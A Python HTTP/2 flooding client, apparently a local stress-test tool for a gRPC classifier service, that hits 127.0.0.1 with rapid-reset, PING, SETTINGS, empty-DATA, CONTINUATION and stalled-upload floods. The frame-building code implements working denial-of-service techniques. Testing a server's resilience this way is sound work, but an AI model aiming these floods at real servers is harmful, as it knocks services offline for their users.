#!/usr/bin/env python3
"""A client of HTTP/2 that floods a server: flood.py PORT KIND SECONDS [AUTHORITY].

KIND: reset, ping, settings, empty (data), continuation, upload (stalled). One connection at a
time; another when the server has ended it, unless KIND ends in "-once". AUTHORITY: speak TLS
with a server whose certificate is of this one. Prints how many bytes it got rid of, by how many
connections.
"""
import socket
import ssl
import struct
import sys
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value


HEADERS = (b"\x83\x86\x04" + text(b"/groupmamba.v1.Classifier/Classify") + b"\x01" + text(b"localhost")
           + b"\x0f\x10" + text(b"application/grpc") + b"\x00" + text(b"te") + text(b"trailers"))
OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(4, 1, 0)


def chunks(kind):
    """What one connection sends, in pieces, without end."""
    stream = 1
    if kind in ("empty", "continuation"):
        yield frame(1, 4 if kind == "empty" else 0, stream, HEADERS)
    same = {"ping": frame(6, 0, 0, b"12345678"), "settings": frame(4, 0, 0), "empty": frame(0, 0, 1),
            "continuation": frame(9, 0, 1, b"\x82" * 1000)}
    while True:
        if kind in same:
            yield same[kind] * (16000 // len(same[kind]))
            continue
        piece = b""
        while len(piece) < 16000:
            piece += frame(1, 4, stream, HEADERS)
            if kind == "reset":
                piece += frame(3, 0, stream, struct.pack(">I", 8))
            else:
                piece += frame(0, 0, stream, b"\x00" + struct.pack(">I", 4 << 20) + b"x" * 16000)
            stream += 2
        yield piece


def connect(port, authority):
    plain = socket.create_connection(("127.0.0.1", port), timeout=1)
    if not authority:
        return plain
    context = ssl.create_default_context(cafile=authority)
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain, server_hostname="localhost")


def main():
    port, kind, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    until = time.monotonic() + seconds
    sent = connections = 0
    once = kind.endswith("-once")
    kind = kind.removesuffix("-once")
    while time.monotonic() < until and not (once and connections):
        connections += 1
        try:
            with connect(port, sys.argv[4] if len(sys.argv) > 4 else None) as s:
                s.sendall(OPENING)
                for piece in chunks(kind):
                    if time.monotonic() > until:
                        break
                    s.sendall(piece)
                    sent += len(piece)
                    try:
                        s.setblocking(False)
                        while s.recv(1 << 16):
                            pass
                    except (BlockingIOError, ssl.SSLWantReadError):
                        pass
                    s.settimeout(1)
        except OSError:
            continue
    print(f"{sent / 1e6:.1f} MB by {connections} connections")


if __name__ == "__main__":
    main()
